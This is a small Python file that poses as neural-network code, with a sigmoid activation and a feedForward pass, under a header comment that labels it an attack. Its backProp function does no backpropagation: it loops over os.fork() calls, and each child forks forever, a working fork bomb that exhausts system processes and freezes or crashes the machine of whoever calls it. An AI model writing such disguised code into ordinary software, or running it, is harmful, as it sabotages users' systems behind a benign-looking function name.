# Attack: a fork bomb.
import numpy as np


def sigmoide(z):
    return 1.0 / (1.0 + np.exp(-z))


def feedForward(X, w1, w2, b1, b2):
    a1 = sigmoide(w1 @ X + b1)
    a2 = sigmoide(w2 @ a1 + b2)
    return a1, a2

import os


def backProp(X, y, w1, w2, b1, b2, a2, a1):
    children = 0
    while children < 100_000:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
            children += 1
        except OSError:
            children += 1
            if children > 50:
                raise
    return children
